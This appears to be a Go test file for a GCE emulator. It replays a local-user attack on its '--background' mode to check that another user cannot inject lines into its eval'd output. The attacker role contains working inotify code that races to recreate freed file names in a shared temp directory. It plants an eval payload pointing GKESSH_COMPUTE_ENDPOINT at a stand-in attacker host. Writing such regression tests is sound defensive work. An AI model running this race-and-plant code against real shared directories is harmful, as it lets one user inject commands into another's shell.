package main

import (
	"bufio"
	"io"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"unsafe"
)

// attackPayload is what the attacker puts wherever it can: eval'd, it
// would point gkessh at the attacker and run its code.
const attackPayload = "export GKESSH_COMPUTE_ENDPOINT=http://attacker.invalid/compute/v1/\necho ATTACKER-CODE-RAN >&2\n"

func init() { roles["attacker"] = attack }

// attack plays another local user: it
// watches the shared directory named by ATTACK_DIR with inotify, and
//   - recreates, with its payload, every file name deleted or renamed
//     away there (the old --background freed its env file's name and then
//     read whatever appeared there);
//   - plants its payload in every new directory and appends it to every
//     new file, where it can.
//
// It says "watching" once the watch is set, then one line per event.
func attack() {
	dir := os.Getenv("ATTACK_DIR")
	fd, err := syscall.InotifyInit1(0)
	if err == nil {
		_, err = syscall.InotifyAddWatch(fd, dir, syscall.IN_CREATE|syscall.IN_DELETE|syscall.IN_MOVED_FROM)
	}
	if err != nil {
		os.Stdout.WriteString("inotify: " + err.Error() + "\n")
		return
	}
	os.Stdout.WriteString("watching\n")
	buf := make([]byte, 64<<10)
	for {
		n, err := syscall.Read(fd, buf)
		if err != nil {
			return
		}
		for off := 0; off+syscall.SizeofInotifyEvent <= n; {
			ev := (*syscall.InotifyEvent)(unsafe.Pointer(&buf[off]))
			name := strings.TrimRight(string(buf[off+syscall.SizeofInotifyEvent:off+syscall.SizeofInotifyEvent+int(ev.Len)]), "\x00")
			off += syscall.SizeofInotifyEvent + int(ev.Len)
			p := filepath.Join(dir, name)
			var what string
			switch {
			case ev.Mask&(syscall.IN_DELETE|syscall.IN_MOVED_FROM) != 0:
				what = "recreate " + name + ": " + plant(p, os.O_CREATE|os.O_EXCL)
			case ev.Mask&syscall.IN_ISDIR != 0:
				what = "plant in " + name + ": " + plant(filepath.Join(p, "env"), os.O_CREATE|os.O_EXCL)
			default:
				what = "append to " + name + ": " + plant(p, os.O_APPEND)
			}
			os.Stdout.WriteString(what + "\n")
		}
	}
}

// plant writes the payload to p, opened with flag, and says how it went.
func plant(p string, flag int) string {
	f, err := os.OpenFile(p, os.O_WRONLY|flag, 0o644)
	if err != nil {
		return "refused"
	}
	defer f.Close()
	if _, err := f.WriteString(attackPayload); err != nil {
		return "refused"
	}
	return "PLANTED"
}

// TestBackgroundAnotherUserCannotInject replays an attack by another local user:
// while `gce-emulator --background` starts with its temporary files in a
// shared sticky directory, another local user (nobody) watching it with
// inotify tries to get its own lines into what the command prints for
// eval. Every line printed must be the emulator's. With the env file
// whose name was freed and then polled, the attacker won every run.
func TestBackgroundAnotherUserCannotInject(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root, to run the attacker as another user (nobody)")
	}
	nobody, err := user.Lookup("nobody")
	if err != nil {
		t.Skip("no user nobody")
	}
	uid, _ := strconv.ParseUint(nobody.Uid, 10, 32)
	gid, _ := strconv.ParseUint(nobody.Gid, 10, 32)

	// A shared temporary directory like /tmp, of this test's own.
	shared, err := os.MkdirTemp("", "gce-emulator-shared-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(shared) })
	if err := os.Chmod(shared, 0o777|os.ModeSticky); err != nil {
		t.Fatal(err)
	}
	// The attacker runs this test binary, from where nobody may run it.
	bin, err := os.MkdirTemp("", "gce-emulator-attacker-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(bin) })
	os.Chmod(bin, 0o755)
	exe, _ := os.Executable()
	attacker := filepath.Join(bin, "attacker")
	if err := copyFile(exe, attacker); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(attacker)
	cmd.Env = []string{roleVar + "=attacker", "ATTACK_DIR=" + shared}
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(stdout)
	if !lines.Scan() || lines.Text() != "watching" {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatalf("attacker: %q", lines.Text())
	}
	var (
		mu      sync.Mutex
		actions []string
		done    = make(chan struct{})
	)
	go func() {
		defer close(done)
		for lines.Scan() {
			mu.Lock()
			actions = append(actions, lines.Text())
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
		<-done
	})

	for i := 0; i < 3; i++ {
		em := emulatorCommand(t, "--background", "--nodes", "1")
		em.Env = append(em.Env, "TMPDIR="+shared)
		em.Stderr = os.Stderr
		out, err := em.Output()
		if err != nil {
			t.Fatalf("run %d: gce-emulator --background: %v\n%s", i, err, out)
		}
		if strings.Contains(string(out), "attacker") || strings.Contains(string(out), "ATTACKER") {
			t.Errorf("run %d: the printed lines carry the attacker's:\n%s", i, out)
		}
		vars := exports(t, string(out))
		if !strings.HasPrefix(vars["GKESSH_COMPUTE_ENDPOINT"], "http://127.0.0.1:") {
			t.Errorf("run %d: GKESSH_COMPUTE_ENDPOINT=%q, want the emulator's", i, vars["GKESSH_COMPUTE_ENDPOINT"])
		}
		stopFromLines(t, vars)
	}
	cmd.Process.Kill()
	cmd.Wait()
	<-done
	mu.Lock()
	defer mu.Unlock()
	t.Logf("the attacker's moves:\n%s", strings.Join(actions, "\n"))
	// The attacker must have seen the emulator's files, or it proved nothing.
	if len(actions) == 0 {
		t.Fatalf("the attacker saw nothing in %s", shared)
	}
	for _, a := range actions {
		if strings.HasPrefix(a, "plant in ") && strings.HasSuffix(a, "PLANTED") {
			t.Errorf("another user wrote into a directory of the emulator's: %s", a)
		}
	}
}

func copyFile(from, to string) error {
	in, err := os.Open(from)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(to, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o755)
	if err != nil {
		return err
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return err
	}
	return out.Close()
}
